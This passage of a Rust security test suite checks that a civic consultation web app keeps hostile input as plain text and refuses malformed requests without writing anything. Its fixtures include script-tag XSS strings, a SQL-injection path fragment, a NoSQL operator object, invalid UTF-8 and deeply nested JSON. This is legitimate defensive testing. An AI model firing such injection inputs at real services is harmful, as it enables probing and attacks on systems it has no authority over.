        let open = rest.find('>').unwrap();
        let close = rest.find("</w:t>").unwrap();
        texts.push(xml_unescape(&rest[open + 1..close]));
        rest = &rest[close..];
    }
    texts
}

fn xml_unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let end = rest[at..].find(';').expect("an entity ends") + at;
        let entity = &rest[at + 1..end];
        let c = match entity {
            "amp" => '&',
            "lt" => '<',
            "gt" => '>',
            "quot" => '"',
            "apos" => '\'',
            _ => {
                let code = match entity.strip_prefix("#x") {
                    Some(hex) => u32::from_str_radix(hex, 16),
                    None => entity.trim_start_matches('#').parse(),
                };
                char::from_u32(code.unwrap_or_else(|_| panic!("entity &{entity};"))).unwrap()
            }
        };
        out.push(c);
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    out
}

async fn the_social_report_draft_keeps_hostile_text_as_text(db: TestDatabase) {
    let app = TestApp::spawn_demo(db).await;
    let member = app.token("demo-member").await;
    let payloads = payloads();
    let mut requests = Vec::new();
    let mut sent = Vec::new();
    for (field, rule) in [("title", Rule::Line(200)), ("text", Rule::Paragraphs(5000))] {
        for p in &payloads {
            let mut body = json!({"title": "关于老旧小区停车难的建议", "text": "一、基本情况\n共 5 件。"});
            body[field] = json!(p.text);
            requests.push(
                app.with_token(Method::POST, "/api/v1/insights/social-report.docx", &member)
                    .json(&body),
            );
            sent.push((field, rule, p));
        }
    }
    let answers = send_all(requests).await;
    let mut written = 0;
    for ((field, rule, p), answer) in sent.iter().zip(&answers) {
        let what = format!("social report {field} {} {}", p.family, short(&p.text));
        let expected = rule.expect(&p.text);
        assert!(
            !(p.always_refused && expected.is_ok()),
            "{what}: the oracle stores it"
        );
        let Ok(Some(value)) = expected else {
            assert_refused(answer, Some(field), &what);
            continue;
        };
        assert_eq!(answer.status, 200, "{what}: {}", answer.text());
        let texts = docx_texts(&answer.body);
        // The title is one run; the text one paragraph a line.
        let lines: Vec<&str> = match *field {
            "title" => vec![value.as_str()],
            _ => value.lines().map(str::trim).filter(|l| !l.is_empty()).collect(),
        };
        for line in lines {
            assert!(
                texts.iter().any(|t| t == line),
                "{what}: {line:?} not a run of {texts:?}"
            );
        }
        written += 1;
    }
    assert!(written >= 100, "only {written} written");
}

// ---------------------------------------------------------------------------------------------------
// Malformed requests to every one of those routes
// ---------------------------------------------------------------------------------------------------

/// Bodies no route may accept, made from a valid `body` and its string `field`: (what, content type,
/// bytes).
fn malformed_bodies(body: &Value, field: &str) -> Vec<(String, Option<&'static str>, Vec<u8>)> {
    const JSON: Option<&str> = Some("application/json");
    let valid = serde_json::to_vec(body).unwrap();
    // The body with `field`'s value replaced by raw bytes.
    let with_raw = |raw: &[u8]| {
        let mut marked = body.clone();
        marked[field] = json!("@@RAW@@");
        let text = serde_json::to_vec(&marked).unwrap();
        let at = text.windows(9).position(|w| w == b"\"@@RAW@@\"").unwrap();
        [&text[..at], raw, &text[at + 9..]].concat()
    };
    let nested_arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let nested_objects = format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    // Deep under a key no route knows: skipped, not parsed into anything, and still bounded.
    let deep_unknown = format!(
        "{{\"x\":{}1{},\"{field}\":12345}}",
        "{\"a\":".repeat(200_000),
        "}".repeat(200_000)
    );
    let duplicate = {
        let rest = String::from_utf8(valid.clone()).unwrap();
        format!("{{\"{field}\":\"第一个\",{}", &rest[1..]).into_bytes()
    };
    vec![
        (
            "10,000 nested arrays".into(),
            JSON,
            nested_arrays.clone().into_bytes(),
        ),
        (
            "10,000 nested objects".into(),
            JSON,
            with_raw(nested_objects.as_bytes()),
        ),
        (
            "200,000 nested objects under an unknown key".into(),
            JSON,
            deep_unknown.into_bytes(),
        ),
        (
            format!("{field} nested 10,000 deep"),
            JSON,
            with_raw(nested_arrays.as_bytes()),
        ),
        (
            "a form body".into(),
            Some("application/x-www-form-urlencoded"),
            format!("{field}=%3Cscript%3E").into_bytes(),
        ),
        (
            "a form body called JSON".into(),
            JSON,
            format!("{field}=%3Cscript%3E").into_bytes(),
        ),
        ("JSON as text/plain".into(), Some("text/plain"), valid.clone()),
        ("JSON without a content type".into(), None, valid.clone()),
        (
            "JSON as multipart".into(),
            Some("multipart/form-data; boundary=x"),
            valid.clone(),
        ),
        ("JSON as XML".into(), Some("application/xml"), valid.clone()),
        ("invalid UTF-8".into(), JSON, with_raw(b"\"\xff\xfe\xc3\x28\"")),
        ("an overlong UTF-8 slash".into(), JSON, with_raw(b"\"\xc0\xaf\"")),
        ("a lone surrogate".into(), JSON, with_raw(b"\"\\ud800\"")),
        ("a raw NUL in a string".into(), JSON, with_raw(b"\"a\x00b\"")),
        ("a raw line break in a string".into(), JSON, with_raw(b"\"a\nb\"")),
        ("an unterminated string".into(), JSON, with_raw(b"\"abc")),
        (format!("a duplicate {field}"), JSON, duplicate),
        ("a number for a string".into(), JSON, with_raw(b"12345")),
        ("a number out of range".into(), JSON, with_raw(b"1e400")),
        ("a boolean for a string".into(), JSON, with_raw(b"true")),
        ("an array for a string".into(), JSON, with_raw(b"[\"a\",\"b\"]")),
        ("an object for a string".into(), JSON, with_raw(b"{\"$ne\":null}")),
        ("truncated JSON".into(), JSON, valid[..valid.len() - 3].to_vec()),
        ("trailing garbage".into(), JSON, [&valid[..], b" {}"].concat()),
        (
            "a byte-order mark first".into(),
            JSON,
            ["\u{FEFF}".as_bytes(), &valid[..]].concat(),
        ),
        ("an empty body".into(), JSON, Vec::new()),
        ("null".into(), JSON, b"null".to_vec()),
        ("an array".into(), JSON, b"[]".to_vec()),
        ("a string".into(), JSON, b"\"<script>alert(1)</script>\"".to_vec()),
        (
            "2 MB of JSON".into(),
            JSON,
            with_raw(format!("\"{}\"", "x".repeat(2 * 1024 * 1024)).as_bytes()),
        ),
    ]
}

/// A route under attack: method, path, bearer token (none: public), a valid body, its string fields.
type Route<'a> = (Method, String, Option<&'a String>, Value, &'static [&'static str]);

async fn malformed_requests_are_clear_refusals_that_write_nothing(db: TestDatabase) {
    let app = TestApp::spawn_demo(db).await;
    let staff = app.token("demo-staff").await;
    let city = app.token("demo-city").await;
    let (_, activities) = call(&app, &staff, Method::GET, "/api/v1/activities?year=2026", None).await;
    let activity = activities[0]["id"].as_i64().unwrap();
    // What nothing may change.
    let snapshot = || async {
        let mut state = Vec::new();
        for (token, path) in [
            (&staff, "/api/v1/opinions".to_owned()),
            (&city, "/api/v1/activities?year=2026".to_owned()),
            (&city, "/api/v1/rooms".to_owned()),
            (&city, "/api/v1/members/1".to_owned()),
            (&city, "/api/v1/public/rooms/1".to_owned()),
            (&city, format!("/api/v1/activities/{activity}")),
        ] {
            let (status, body) = call(&app, token, Method::GET, &path, None).await;
            assert_eq!(status, 200, "{path}");
            state.push(body);
        }
        state
    };
    let before = snapshot().await;

    let routes: Vec<Route<'_>> = vec![
        (
            Method::POST,
            "/api/v1/public/rooms/1/opinions".into(),
            None,
            json!({"content": "路灯坏了", "contact_name": "李秀英", "contact_phone": "13900008888", "community": "洪桥社区", "consent": true}),
            &["content", "contact_name", "contact_phone", "community"],
        ),
        (
            Method::POST,
            "/api/v1/opinions".into(),
            Some(&staff),
            json!({"room_id": 1, "content": "路灯坏了", "contact_name": "李秀英", "community": "洪桥社区", "consent": true}),
            &["content", "contact_name", "community"],
        ),
        (
            Method::POST,
            "/api/v1/activities".into(),
            Some(&staff),
            json!({"room_id": 1, "kind": "policy_promotion", "date": "2026-11-20", "member_ids": [1], "summary": "宣讲", "place": "社区"}),
            &["summary", "place", "kind"],
        ),
        (
            Method::PATCH,
            format!("/api/v1/activities/{activity}"),
            Some(&staff),
            json!({"summary": "补充的内容"}),
            &["summary"],
        ),
        (
            Method::POST,
            "/api/v1/rooms".into(),
            Some(&city),
            json!({"name": "畸形请求测试工作室", "kind": "fixed", "division_code": "440105001", "address": "赤岗街道", "opening_notes": "周一开放"}),
            &["name", "address", "opening_notes", "division_code"],
        ),
        (
            Method::PATCH,
            "/api/v1/rooms/1".into(),
            Some(&city),
            json!({"name": "畸形请求改名工作室", "address": "某地", "opening_notes": "某时"}),
            &["name", "address", "opening_notes"],
        ),
        (
            Method::PATCH,
            "/api/v1/members/1".into(),
            Some(&city),
            json!({"sector": "经济界", "employer": "某公司", "position": "经理", "term": "第十四届"}),
            &["sector", "employer", "position", "term"],
        ),
    ];
    let mut requests = Vec::new();
    let mut sent = Vec::new();
    for (method, path, token, body, fields) in &routes {
        for field in *fields {
            for (what, content_type, bytes) in malformed_bodies(body, field) {
                let mut request = new_client().request(method.clone(), app.url(path));
                if let Some(token) = token {
                    request = request.bearer_auth(token);
                }
                if let Some(content_type) = content_type {
                    request = request.header("content-type", content_type);
                }
                requests.push(request.body(bytes));
                sent.push(format!("{method} {path}: {what}"));
            }
        }
        // Other methods on the same path.
        for other in [Method::PUT, Method::DELETE] {
            let mut request = new_client().request(other.clone(), app.url(path));
            if let Some(token) = token {
                request = request.bearer_auth(token);
            }
            requests.push(request.json(body));
            sent.push(format!("{other} {path}"));
        }
    }
    // Paths that are not ids.
    for path in [
        "/api/v1/activities/abc",
        "/api/v1/activities/99999999999999999999",
        "/api/v1/activities/-1",
        "/api/v1/rooms/%00",
        "/api/v1/rooms/1%27%20OR%201=1",
        "/api/v1/members/%3Cscript%3E",
        "/api/v1/members/1.5",
    ] {
        requests.push(
            app.with_token(Method::PATCH, path, &city)
                .json(&json!({"summary": "x", "name": "某某工作室", "employer": "x"})),
        );
        sent.push(format!("PATCH {path}"));
    }
    requests.push(
        new_client()
            .post(app.url("/api/v1/public/rooms/1%3Cscript%3E/opinions"))
            .json(&routes[0].3),
    );
    sent.push("POST a script as the room id".into());
    assert!(sent.len() >= 500, "{} malformed requests", sent.len());

    let answers = send_all(requests).await;
    for (what, answer) in sent.iter().zip(&answers) {
        assert_refused(answer, None, what);
    }
    let after = snapshot().await;
    assert_eq!(before, after, "a malformed request changed something");
}

const RULE_FIELDS: [(&str, Rule); 2] = [("title", Rule::Line(60)), ("text", Rule::Paragraphs(20_000))];

async fn rules_keep_hostile_text_as_text(db: TestDatabase) {
    let app = TestApp::spawn_demo(db).await;
    let staff = app.token("demo-staff").await;
    let payloads = payloads();
    let mut requests = Vec::new();
    let mut sent = Vec::new();
    for (field, rule) in RULE_FIELDS {
        for p in &payloads {
            let mut body = json!({
                "title": format!("恶意输入测试制度{}", requests.len()),
                "text": "一、正文。", "effective_from": "2026-11-01",
            });
            body[field] = json!(p.text);
            requests.push(
                app.with_token(Method::POST, "/api/v1/rooms/1/rules", &staff)
                    .json(&body),
            );
            sent.push((field, rule, p));
        }
    }
    let answers = send_all(requests).await;
    let mut stored = Vec::new();
    for ((field, rule, p), answer) in sent.iter().zip(&answers) {
        let what = format!("POST rule {field} {} {}", p.family, short(&p.text));
        match rule.expect(&p.text) {
            Err(()) => assert_refused(answer, Some(field), &what),
            Ok(value) => {
                assert_eq!(answer.status, 201, "{what}: {}", answer.text());
                let id = answer.json()["id"].as_i64().unwrap();
                stored.push((id, *field, value.unwrap_or_default(), what));
            }
        }
    }
    assert!(stored.len() >= 100, "only {} stored", stored.len());
    let (_, rules) = call(&app, &staff, Method::GET, "/api/v1/rooms/1/rules", None).await;
    let rules = rules["rules"].as_array().unwrap();
    assert_eq!(rules.len(), 3 + stored.len(), "a refusal wrote a rule");
    let (_, public) = call(&app, &staff, Method::GET, "/api/v1/public/rooms/1", None).await;
    let (page, _) = app.page_session("demo-staff").await;
    let staff_page = common::get_text(&page, &app.url("/admin/rooms/1/rules")).await;
    let public_page = common::get_text(&new_client(), &app.url("/rooms/1")).await;
    for (id, field, value, what) in &stored {
        let rule = rules.iter().find(|r| r["id"] == *id).unwrap();
        assert_eq!(
            rule["versions"][0][*field],
            json!(value),
            "{what}: the JSON round-trips"
        );
        assert!(
            public["rules"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r[*field] == json!(value)),
            "{what}: the public JSON"
        );
        // Pages show the text a line to a paragraph.
        for line in value.lines().filter(|l| !l.trim().is_empty()) {
            assert_shown_as_text(&staff_page, line, &format!("{what} on the rules page"));
            assert_shown_as_text(&public_page, line, &format!("{what} on /rooms/1"));
        }
    }
}

on_both_databases!(
    opinions_keep_hostile_text_as_text,
    rules_keep_hostile_text_as_text,
    activities_keep_hostile_text_as_text,
    rooms_keep_hostile_text_as_text,
    members_keep_hostile_text_as_text,
    malformed_requests_are_clear_refusals_that_write_nothing,
    the_social_report_draft_keeps_hostile_text_as_text,
);

/// The suite's size: at least 50 payloads for every field, of every family.
#[test]
fn the_payload_list_is_long_and_varied() {
    let payloads = payloads();
    let families: HashSet<&str> = payloads.iter().map(|p| p.family).collect();
    assert!(payloads.len() >= 50, "{} payloads", payloads.len());
    assert_eq!(families.len(), 10, "{families:?}");
}
